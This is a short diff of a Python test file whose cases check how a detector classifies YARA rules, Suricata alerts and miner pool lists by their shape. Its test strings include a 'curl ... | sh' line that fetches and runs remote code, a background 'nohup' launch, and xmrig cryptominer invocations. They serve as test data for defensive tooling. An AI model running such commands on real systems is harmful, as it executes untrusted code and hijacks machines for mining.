@@ -54,6 +54,8 @@ def test_detection_content_by_shape(text: str, shape: str) -> None:
         "/*\ncurl -s http://198.51.100.1/x | sh\n*/\nrule a { condition: true }\n",
         YARA + "echo done\n",  # text outside the rules
         SURICATA + "nohup ./x &\n",
+        'alert tcp any any -> any any (msg:"no sid"; rev:1;)\n',
+        "rule a { condition: true }\n/* never closed\n",
         CATALOGUE + "[pools]\nurl = 'a.test:1'\n",
         "./xmrig\n-o a.test:3333 -u x\nthird\n",  # a line with spaces: not a list
         "a.test:1\nb.test:2\n",  # two lines are too few to call a list
